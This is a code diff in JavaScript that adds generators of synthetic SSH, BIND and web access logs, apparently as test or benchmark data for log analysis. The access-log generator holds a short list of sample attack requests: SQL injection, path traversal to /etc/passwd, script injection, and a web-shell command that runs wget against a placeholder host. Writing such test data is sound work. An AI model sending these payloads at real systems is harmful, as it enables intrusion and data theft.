@@ -110,3 +110,75 @@ export function corpus(file, { bytes, share, stamp, seed }) {
   fs.closeSync(out);
   return { lines, failures, bytes: fs.statSync(file).size };
 }
+
+/** How the lines of a corpus are written, about so many bytes of them; `make` gives one line at a time for a moment. */
+function written(file, bytes, make) {
+  const out = fs.openSync(file, 'w');
+  let size = 0;
+  let lines = 0;
+  while (size < bytes) {
+    let batch = '';
+    while (batch.length < BATCH_BYTES) {
+      batch += `${make(FIRST_MS + Math.floor((SPAN_MS * Math.min(bytes, size + batch.length)) / bytes))}\n`;
+      lines += 1;
+    }
+    size += fs.writeSync(out, batch);
+  }
+  fs.closeSync(out);
+  return { lines, bytes: size };
+}
+
+const address = (chance, most) => {
+  const rank = Math.floor(most ** chance());
+  return `198.${18 + (rank >> 16)}.${(rank >> 8) & 255}.${rank & 255}`;
+};
+
+/** An authentication log of which 58 % of the lines are refused passwords, from up to 50,000 addresses (frequency falls off as 1/rank). */
+export function refused(file, bytes, seed) {
+  const chance = random(seed);
+  return written(file, bytes, (at) => {
+    const pid = 1_000 + Math.floor(chance() * 60_000);
+    if (chance() >= 0.58) return `${oldStamp(at)} web1 ${BORING[Math.floor(chance() * BORING.length)](pid)}`;
+    const known = chance() < 0.5;
+    const name = known ? 'root' : `${STEMS[Math.floor(chance() * STEMS.length)]}${Math.floor(chance() * 40)}`;
+    const who = `${known ? '' : 'invalid user '}${name} from ${address(chance, 50_000)} port ${1_024 + Math.floor(chance() * 60_000)}`;
+    return `${oldStamp(at)} web1 sshd[${pid}]: Failed password for ${who} ssh2`;
+  });
+}
+
+/** A query log of BIND: four of five queries are of a flood for few names, the others of ordinary clients. */
+export function queries(file, bytes, seed) {
+  const chance = random(seed);
+  return written(file, bytes, (at) => {
+    const flood = chance() < 0.8;
+    const name = flood ? `${STEMS[Math.floor(chance() * 5)]}.example` : `www${Math.floor(chance() * 9_000)}.example.net`;
+    const day = new Date(at).toISOString();
+    const stamp = `${day.slice(8, 10)}-${MONTHS[Number(day.slice(5, 7)) - 1]}-${day.slice(0, 4)} ${day.slice(11, 23)}`;
+    const from = address(chance, flood ? 200 : 5_000);
+    return `${stamp} queries: info: client @0x7f3a2c0${Math.floor(chance() * 9)} ${from}#${1_024 + Math.floor(chance() * 60_000)} (${name}): query: ${name} IN ${flood ? 'ANY' : 'A'} +E(0) (192.0.2.53)`;
+  });
+}
+
+const PATHS = ['/', '/index.html', '/shop/item/', '/img/logo.png', '/css/site.css', '/api/v1/items?page=', '/blog/2025/'];
+const ATTACKS = [
+  '/index.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--',
+  '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',
+  '/wp-login.php',
+  '/?x=%3Cscript%3Ealert(1)%3C/script%3E',
+  '/shell.php?cmd=id;wget+http://192.0.2.9/x',
+];
+
+/** A combined access log with two attacks in a hundred requests. */
+export function access(file, bytes, seed) {
+  const chance = random(seed);
+  return written(file, bytes, (at) => {
+    const attack = chance() < 0.02;
+    const day = new Date(at).toISOString();
+    const stamp = `${day.slice(8, 10)}/${MONTHS[Number(day.slice(5, 7)) - 1]}/${day.slice(0, 4)}:${day.slice(11, 19)} +0000`;
+    const path = attack
+      ? ATTACKS[Math.floor(chance() * ATTACKS.length)]
+      : `${PATHS[Math.floor(chance() * PATHS.length)]}${Math.floor(chance() * 500)}`;
+    const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
+    return `${address(chance, attack ? 300 : 8_000)} - - [${stamp}] "GET ${path} HTTP/1.1" ${attack ? 404 : 200} ${Math.floor(chance() * 40_000)} "-" "${agent}"`;
+  });
+}
